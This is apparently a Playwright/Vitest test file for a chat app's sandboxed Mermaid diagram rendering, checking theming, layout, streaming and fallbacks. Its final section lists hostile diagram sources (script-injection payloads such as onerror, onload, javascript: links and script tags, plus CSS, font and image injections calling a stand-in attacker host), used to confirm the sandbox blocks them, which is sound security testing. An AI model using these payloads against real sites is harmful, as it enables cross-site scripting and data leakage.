/** [MSG-18] Mermaid diagrams: drawn in a sandboxed frame, in the page's theme, harmless. */
import type { FrameLocator, Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { type Attacker, startAttacker } from "./attacker.ts"
import { barriers } from "./axe.ts"
import { useBrowser } from "./browser.ts"
import { type SteeredModel, startSteeredModel } from "./model.ts"
import { startParlor, type TestParlor } from "./parlor.ts"
import { expectCount, expectText, roomOf } from "./room.ts"

let attacker: Attacker
let model: SteeredModel
let parlor: TestParlor
beforeAll(async () => {
  attacker = await startAttacker()
  model = await startSteeredModel()
  parlor = await startParlor({ model })
})
afterAll(async () => {
  await parlor.close()
  await model.close()
  await attacker.close()
})
const browser = useBrowser()

let talks = 0
/** A conversation of its own, in which this was answered. */
async function answered(text: string, branch = `diagram-${++talks}`): Promise<string> {
  const conversation = parlor.sdk.conversation("host", branch)
  await conversation.make()
  const asking = model.next()
  await conversation.send("Draw it.")
  const answer = await asking
  answer.say(text)
  answer.end()
  return `${parlor.url}/#/host/${branch}`
}

async function open(address: string, options: Parameters<typeof browser.page>[1] = {}): Promise<Page> {
  const page = await browser.page(parlor.address, { reducedMotion: "reduce", ...options })
  await page.goto(address)
  return page
}

const fenced = (source: string) => `Look:\n\n\`\`\`mermaid\n${source}\n\`\`\`\n\nThat was it.`
const frameOf = (page: Page): FrameLocator => page.frameLocator("iframe[title=Diagram]").first()

const KINDS = [
  ["a flowchart", "graph TD\n  A[Start] --> B{Choice}\n  B -->|yes| C[Finish]", "Finish"],
  ["a sequence", "sequenceDiagram\n  Ana->>Bob: Hello\n  Bob-->>Ana: Hi there", "Hi there"],
  ["a class diagram", "classDiagram\n  Animal <|-- Duck\n  Duck : +swim()", "Duck"],
  ["a state diagram", "stateDiagram-v2\n  [*] --> Still\n  Still --> Moving", "Moving"],
  ["a pie", 'pie title Pets\n  "Dogs" : 3\n  "Cats" : 2', "Pets"],
  ["a schedule", "gantt\n  dateFormat YYYY-MM-DD\n  section Work\n  Paint :a1, 2026-01-01, 3d", "Paint"],
] as const

describe("[MSG-18] a diagram", { timeout: 120_000 }, () => {
  test.each(KINDS)("%s is drawn", async (_kind, source, word) => {
    const page = await open(await answered(fenced(source)))
    await frameOf(page).locator("svg").getByText(word).first().waitFor()
    await expectText(roomOf(page).replies, /Look:.*That was it\./)
  })

  test("has the theme of the page, follows it, fits on a phone, and shows its code", async () => {
    const address = await answered(fenced("graph LR\n  A[One] --> B[Two]"))
    const page = await open(address, { colorScheme: "dark", viewport: { width: 390, height: 844 } })
    const scheme = () =>
      frameOf(page)
        .locator("html")
        .evaluate((html) => html.style.colorScheme)
    await frameOf(page).locator("svg").waitFor()
    expect(await scheme()).toBe("dark")
    await page.emulateMedia({ colorScheme: "light" })
    await expect.poll(scheme).toBe("light")
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true)
    expect(await barriers(page)).toEqual([])
    await page.getByRole("button", { name: "Code", exact: true }).click()
    await expectText(roomOf(page).replies, /A\[One\] --> B\[Two\]/)
  })

  test("that cannot be drawn is shown as code, with a note", async () => {
    const page = await open(await answered(fenced("graph TD\n  A[unclosed --> ???(")))
    await expectText(roomOf(page).replies, /A\[unclosed.*can't be drawn/)
    await expectCount(page.locator("iframe"), 0)
  })

  test("is code while it streams, and drawn when it is complete", async () => {
    const conversation = parlor.sdk.conversation("host", "streaming")
    await conversation.make()
    const asking = model.next()
    await conversation.send("Draw it.")
    const answer = await asking
    const page = await open(`${parlor.url}/#/host/streaming`)
    answer.say("```mermaid\ngraph TD\n  A[Begin]")
    await expectText(roomOf(page).replies, /A\[Begin\]/)
    await expectCount(page.locator("iframe"), 0)
    answer.say(" --> B[End]\n```\n\nDone.")
    answer.end()
    await frameOf(page).locator("svg").getByText("End").waitFor()
  })
})

const hostile = (at: string): readonly string[] => [
  `graph TD\n  A["<img src=${at}/img onerror=parent.taken=1>"] --> B`,
  `graph TD\n  A --> B\n  click A "javascript:parent.taken=1" "go"\n  click B href "${at}/href" _top`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<script src=${at}/s.js></script><b onclick=parent.taken=1>x</b>"]`,
  `%%{init: {"themeCSS": "@import url(${at}/css); * { background: url(${at}/bg) }"}}%%\ngraph TD\n  A --> B`,
  `%%{init: {"fontFamily": "x; } @font-face { font-family: y; src: url(${at}/font) } .z {"}}%%\ngraph TD\n  A --> B`,
  `graph TD\n  A["<iframe src=${at}/frame></iframe><svg onload=parent.taken=1>"]\n  style A fill:url(${at}/fill)`,
  `graph TD\n  A@{ img: "${at}/node.png", label: "x", w: 60, h: 60 }`,
  `classDiagram\n  class Shape\n  link Shape "${at}/link"\n  callback Shape "alert"`,
]

test("[MSG-18] a hostile diagram runs nothing in the page, reads nothing of it and reaches nobody", async () => {
  // What the browser says when the policy of the frame stops one of them.
  browser.expectErrors(/content security|violat|Refused|blocked/i, /^policy: frame-src http/)
  for (const source of hostile(attacker.url)) {
    const page = await open(await answered(fenced(source)))
    const room = roomOf(page)
    const drawn = frameOf(page).locator("svg").first()
    await Promise.any([drawn.waitFor(), room.replies.getByText("can't be drawn").waitFor()])
    for (const link of (await page.locator("iframe").count())
      ? await frameOf(page).locator("a, .clickable, g.node").all()
      : [])
      await link.click({ force: true, timeout: 1_000 }).catch(() => undefined)
    const harm = await page.evaluate(() => (globalThis as { taken?: unknown }).taken)
    expect(harm, source).toBeUndefined()
    expect(new URL(page.url()).origin).toBe(parlor.url)
    await page.close()
  }
  expect(attacker.visits).toEqual([])
  // The frame itself: no origin, so nothing of the page or its storage.
  const page = await open(await answered(fenced("graph TD\n  A --> B")))
  await frameOf(page).locator("svg").waitFor()
  const reached = await frameOf(page)
    .locator("body")
    .evaluate(async (_body, at) => {
      const tried = async (work: () => unknown) => {
        try {
          await work()
          return "yes"
        } catch {
          return "no"
        }
      }
      return [
        await tried(() => parent.document.title),
        await tried(() => localStorage.length),
        await tried(() => fetch(`${at}/fetch`)),
        await tried(() => fetch("/v1/agents")),
        self.origin,
      ]
    }, attacker.url)
  expect(reached).toEqual(["no", "no", "no", "no", "null"])
  expect(attacker.visits).toEqual([])
}, 240_000)
